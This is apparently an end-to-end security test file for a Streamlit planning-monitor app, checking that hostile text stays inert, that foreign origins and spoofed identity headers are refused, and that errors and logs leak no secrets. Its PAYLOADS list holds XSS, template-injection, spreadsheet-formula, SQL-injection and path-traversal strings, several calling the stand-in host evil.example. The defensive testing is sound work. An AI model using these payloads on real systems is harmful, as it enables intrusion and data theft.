"""What Streamlit leaves to the application: origins, uploads, tracebacks, identity headers, hostile text."""

from __future__ import annotations

import json
import logging
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook
from playwright.sync_api import BrowserContext, Dialog, Page, expect
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect
from websockets.typing import Origin

from planmonitor import clock
from planmonitor.access import EVERYTHING, operator
from planmonitor.assessment import Verdict
from planmonitor.evaluation import Evaluation
from planmonitor.intake.desk import Desk
from planmonitor.monitor import open_monitor
from planmonitor.settings import ROOT, Settings
from tests.driving import CHAPTERS, serving
from tests.e2e.conftest import Visit, Visitor
from tests.intake.conftest import hand_in, row, workbook

pytestmark = pytest.mark.e2e
EVIL = "evil.example"
PAYLOADS = (
    f"<script>fetch('http://{EVIL}/1')</script>",
    f"<img src=http://{EVIL}/2 onerror=alert(2)>",
    f"<svg/onload=fetch('http://{EVIL}/3')>",
    f"![x](http://{EVIL}/4.png)",
    "[点我](javascript:alert(5))",
    "${alert(6)}",
    "{{constructor.constructor('alert(7)')()}}",
    f'=HYPERLINK("http://{EVIL}/8","x")',
    "'; DROP TABLE observation_revision; --",
    "../../../../etc/passwd",
    f"</script><script src=http://{EVIL}/11></script>",
    f'"><iframe src=http://{EVIL}/12></iframe>',
    "`;alert(13);//",
    f"<style>@import url(http://{EVIL}/14)</style>",
    f"<link rel=stylesheet href=http://{EVIL}/15>",
    ":material/home: $x^2$ :red[x]",
)
PAGES = (
    "",
    *CHAPTERS,
    "indicator?indicator=IND-13&part=why",
    "indicator?indicator=IND-13&part=data",
    "evaluation?view=list",
    "evaluation?view=matrix",
    "evaluation?view=gap",
    "evaluation?view=spread",
    "evaluation?view=compare",
    "evaluation?view=list&subject=IND-13",
    "findings",
    "ledger",
    "intake?view=fill",
    "intake?view=review",
    "intake?view=history",
    "intake?view=complete",
    "method",
)


@pytest.fixture(scope="module")
def soiled(browser_context: BrowserContext, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visitor]:
    """A server whose store holds every payload in every free text there is."""
    var = tmp_path_factory.mktemp("soiled")
    monitor = open_monitor(Settings(var=var))
    codes = [monitor.plan.adcode, *monitor.divisions.codes]
    names = ["全市", *(monitor.place_name(c) for c in codes[1:])]
    years = (2024, 2025)
    rows = []
    for n, text in enumerate(PAYLOADS):
        place, year = names[n % len(names)], years[n // len(names)]
        rows.append(
            row(
                code="IND-13",
                name="",
                place=place,
                year=year,
                value=3.3,
                unit="人",
                source=text[:100],
                remark=text,
            )
        )
    desk = Desk(monitor, lambda: operator(PAYLOADS[0]), var / "uploads")
    for number, part in enumerate(
        (rows, [row(code="IND-14", name="", value=96, remark=t) for t in PAYLOADS[:1]])
    ):
        data = workbook(part, change=as_text)
        made = hand_in(desk, data, EVERYTHING, f"{PAYLOADS[number]}.xlsx")
        if number == 0:
            desk.publish(made)
    for n, text in enumerate(PAYLOADS):
        given = Evaluation(
            "IND-13",
            monitor.plan.adcode,
            2023,
            Verdict.LAGGING,
            text,
            text,
            Verdict.LAGGING,
            text[:60],
            clock.now() + timedelta(seconds=n),
        )
        assert monitor.evaluate(given, by=operator("x")) == {}
    monitor.store.engine.dispose()
    with serving(var) as address:
        page = browser_context.new_page()
        guest = Visitor(page, address)

        def dismissed(dialog: Dialog) -> None:
            guest.errors.append(f"script ran: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", dismissed)
        yield guest
        page.close()


def as_text(book: Workbook) -> None:
    """Write what looks like a formula as text, as a person who types an apostrophe first does."""
    for line in book.worksheets[0].iter_rows(min_row=2):
        for cell in line:
            if cell.data_type == "f":
                cell.data_type = "s"


@pytest.mark.parametrize("path", PAGES)
def test_hostile_text_is_inert_on_every_page(soiled: Visitor, path: str) -> None:
    page = soiled.open(path)
    page.wait_for_timeout(400)
    assert soiled.outside == []
    assert soiled.errors == []
    for frame in page.frames[1:]:
        assert EVIL not in frame.content()
    assert page.locator(f"[src*='{EVIL}'], [href*='{EVIL}'], [data*='{EVIL}']").count() == 0


@pytest.mark.parametrize("n", range(len(PAYLOADS)))
def test_hostile_text_is_shown_as_it_came(soiled: Visitor, n: int) -> None:
    codes = ["410700", *(d for d in open_codes())]
    place, year = codes[n % len(codes)], (2024, 2025)[n // len(codes)]
    county = "" if place == "410700" else f"&county={place}"
    page = soiled.open(f"indicator?indicator=IND-13&part=data{county}&period={year}&year={year}&demo=0")
    expect(page.locator(".pm-row")).to_contain_text(PAYLOADS[n])
    assert soiled.outside == []
    assert soiled.errors == []


def open_codes() -> list[str]:
    from planmonitor.loading import load_bundle

    return list(load_bundle(Settings(data=ROOT / "data")).divisions.codes)


def handshake(address: str, origin: str) -> int:
    """The status with which a WebSocket handshake is answered; 101 when it is accepted."""
    url = address.replace("http", "ws") + "_stcore/stream"
    try:
        with connect(url, origin=Origin(origin), open_timeout=15):
            return 101
    except InvalidStatus as refused:
        return refused.response.status_code


def test_a_page_of_another_site_cannot_connect(server: str) -> None:
    assert handshake(server, f"http://{EVIL}") == 403
    assert handshake(server, server.rstrip("/").replace("127.0.0.1", "127.0.0.1.evil.example")) == 403
    assert handshake(server, server.rstrip("/")) == 101


def test_the_address_seen_from_outside_is_never_looked_up(monkeypatch: pytest.MonkeyPatch) -> None:
    from streamlit import net_util

    import serve

    monkeypatch.setattr("socket.getaddrinfo", lambda *_, **__: pytest.fail("looked up"))
    assert serve.app
    assert net_util.get_external_ip() is None


def answer(url: str, method: str = "GET", **headers: str) -> tuple[int, dict[str, str], str]:
    request = urllib.request.Request(
        url, method=method, data=b"x" if method == "PUT" else None, headers=headers
    )
    try:
        with urllib.request.urlopen(request, timeout=20) as got:
            return got.status, dict(got.headers), got.read().decode()
    except urllib.error.HTTPError as refused:
        return refused.code, dict(refused.headers), refused.read().decode()


def test_a_reading_process_takes_no_files(visit: Visit, tmp_path: Path) -> None:
    reading = {"PLANMONITOR_WRITING": "false", "PLANMONITOR_ENTRY_ADDRESS": "/entry/intake"}
    with serving(tmp_path, **reading) as address:
        for path in ("_stcore/upload_file/session/file", "_stcore/upload_file/a/b?x=1"):
            assert answer(address + path, "PUT")[0] == 404
        page = visit(address).open("intake?view=fill")
        expect(page.locator("input[type=file]")).to_have_count(0)
        expect(page.get_by_text("前往填报地址")).to_have_attribute("href", "/entry/intake")


def test_every_answer_carries_the_security_headers(server: str) -> None:
    for path in ("", "_stcore/health", "app/static/icon.svg", "healthz"):
        headers = {k.lower(): v for k, v in answer(server + path)[1].items()}
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "SAMEORIGIN"
        assert "object-src 'none'" in headers["content-security-policy"]
        assert "connect-src 'self'" in headers["content-security-policy"]


def test_health_reads_the_database_and_a_broken_page_tells_no_secrets(tab: Page, tmp_path: Path) -> None:
    with serving(tmp_path) as address:
        assert json.loads(answer(f"{address}healthz")[2])["status"] == "ok"
        for file in tmp_path.glob("*.sqlite*"):
            file.write_bytes(b"not a database " * 600)
        status, _, text = answer(f"{address}healthz")
        assert (status, json.loads(text)["database"]) == (503, "unavailable")
        assert answer(f"{address}_stcore/health")[0] == 200
        tab.goto(address)
        box = tab.locator("[data-testid=stAlert]")
        expect(box).to_contain_text("没有显示出来")
        shown = tab.locator("body").inner_text()
        assert not any(word in shown for word in ("Traceback", "sqlite", "sqlalchemy", str(tmp_path), ".py"))


def test_a_header_never_names_anybody(browser_context: BrowserContext, tmp_path: Path) -> None:
    (tmp_path / "access.toml").write_text('[[grant]]\nclaim="email"\nvalue="admin@x"\nrole="admin"\n')
    (tmp_path / "secrets.toml").write_text(
        f'[auth]\nredirect_uri="http://127.0.0.1/oauth2callback"\ncookie_secret="{"c" * 64}"\nclient_id="p"\n'
        'client_secret="s"\nserver_metadata_url="http://127.0.0.1:9/.well-known/openid-configuration"\n'
    )
    options: tuple[dict[str, str], ...] = (
        {},
        {"STREAMLIT_SERVER_TRUSTED_USER_HEADERS": '{"X-Mail": "email", "X-In": "is_logged_in"}'},
    )
    for option in options:
        files = {
            "STREAMLIT_SECRETS_FILES": str(tmp_path / "secrets.toml"),
            "PLANMONITOR_ACCESS": str(tmp_path / "access.toml"),
        }
        with serving(tmp_path, **files, **option) as address:
            page = browser_context.new_page()
            page.set_extra_http_headers({"X-Mail": "admin@x", "X-In": "true", "X-Forwarded-User": "admin@x"})
            Visitor(page, address).open("intake?view=fill")
            said = "请求头可以冒充身份" if option else "请先登录"
            expect(page.locator("[data-testid=stMain]")).to_contain_text(said)
            expect(page.locator("input[type=file]")).to_have_count(0)
            page.close()


def test_logs_keep_neither_sessions_nor_passwords() -> None:
    from components.gate import Redact

    text = "PUT /_stcore/upload_file/0a1b-session/f1 postgresql://u:geheim@db/x"
    record = logging.LogRecord("x", logging.INFO, "", 0, text, (), None)
    assert Redact().filter(record)
    assert record.getMessage() == "PUT /_stcore/upload_file/***/f1 postgresql://u:***@db/x"
